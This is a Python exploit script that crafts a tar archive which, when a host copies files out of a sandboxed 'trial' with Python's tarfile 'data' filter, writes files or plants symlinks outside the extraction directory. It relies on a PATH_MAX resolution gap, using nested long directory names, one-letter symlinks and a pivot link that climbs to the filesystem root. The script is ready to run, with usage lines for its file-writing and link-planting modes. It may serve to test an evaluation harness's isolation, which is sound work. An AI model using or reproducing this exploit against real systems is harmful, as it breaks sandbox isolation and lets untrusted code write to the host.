"""Crafts the tar a hostile trial's own ``tar`` would emit to reach the host through a
tar-based copy out, by the PATH_MAX gap in the tarfile ``data`` filter of Python before
3.12.11/3.13.4: the filter checks paths with ``os.path.realpath``, which stops resolving
links once a path passes PATH_MAX and goes on lexically, while the kernel resolves
every link.

    python3 escape.py file HOST_DIR          # a tar whose extraction writes HOST_DIR/flag
    python3 escape.py link NAME HOST_PATH    # a tar whose extraction makes NAME -> HOST_PATH

Long directory names nested behind one-letter links make the filter's path long; a link
at the bottom climbs back to the top, and a link through it climbs out.
"""

import io
import sys
import tarfile

LONG = "d" * 247
STEPS = "abcdefghijklmnop"
PIVOT = "/".join(STEPS) + "/" + "l" * 254


def escaping_link(host_path: str) -> str:
    # The filter pops the pivot and the long names lexically; the kernel climbs from the
    # top of the tree to / (extra `..` stop there) and then walks the host path.
    return PIVOT + "/.." * (len(STEPS) + 1) + "/" + host_path.lstrip("/")


def archive(name: str, host_path: str, flag: bool) -> None:
    def entry(name: str, kind: bytes, link: str = "") -> tarfile.TarInfo:
        info = tarfile.TarInfo(name)
        info.type, info.linkname, info.mode = kind, link, 0o755
        return info

    with tarfile.open(fileobj=sys.stdout.buffer, mode="w|", format=tarfile.PAX_FORMAT) as out:
        prefix = ""
        for step in STEPS:
            out.addfile(entry(prefix + LONG, tarfile.DIRTYPE))
            out.addfile(entry(prefix + step, tarfile.SYMTYPE, LONG))
            prefix += step + "/"
        out.addfile(entry(PIVOT, tarfile.SYMTYPE, "../" * len(STEPS)))
        out.addfile(entry(name, tarfile.SYMTYPE, escaping_link(host_path)))
        if flag:
            data = b"written on the host by a trial\n"
            member = entry(f"{name}/flag", tarfile.REGTYPE)
            member.size = len(data)
            out.addfile(member, io.BytesIO(data))


if __name__ == "__main__":
    if sys.argv[1] == "file":
        archive("escape", sys.argv[2], flag=True)
    else:
        archive(sys.argv[2], sys.argv[3], flag=False)
